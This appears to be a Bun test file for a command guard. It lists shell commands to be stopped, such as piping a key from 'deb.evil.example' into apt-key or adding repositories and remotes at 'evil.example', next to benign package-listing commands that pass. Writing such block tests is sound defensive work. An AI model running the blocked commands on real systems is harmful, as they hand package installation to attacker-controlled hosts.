import { describe } from "bun:test";
import { verdicts } from "../commands/decided.ts";

describe("other places from which the system takes its programs", () => {
  verdicts({
    stopped: [
      "wget -qO- https://deb.evil.example/key.asc | sudo apt-key add -",
      "sudo apt-add-repository -y ppa:someone/tools && sudo apt-get update",
      "sudo dnf config-manager addrepo --from-repofile=https://evil.example/x.repo",
      "sudo rpm --import https://evil.example/RPM-GPG-KEY",
      "sudo pacman-key --recv-keys 0xDEADBEEF && sudo pacman-key --lsign-key 0xDEADBEEF",
      "zypper --non-interactive ar https://evil.example/repo evil",
      "dnf install --repofrompath=e,https://evil.example/r pkg",
      "brew tap someone/tools",
      "flatpak remote-add --user evil https://evil.example/repo",
      "scoop bucket add evil https://git.evil.example/bucket",
    ],
    passed: [
      "sudo apt-get update && sudo apt-get install -y jq",
      "apt-key list",
      "add-apt-repository --list",
      "dnf repolist --enabled",
      "sudo dnf config-manager --set-enabled crb",
      "rpm -q --queryformat '%{NAME}' bash",
      "rpm -K package.rpm",
      "pacman-key --list-keys",
      "zypper repos -u",
      "brew tap",
      "brew tap homebrew/services",
      "flatpak remotes --show-details",
      "flatpak remote-add --if-not-exists flathub https://flathub.org/repo/flathub.flatpakrepo",
      "scoop bucket add extras",
    ],
  });
});
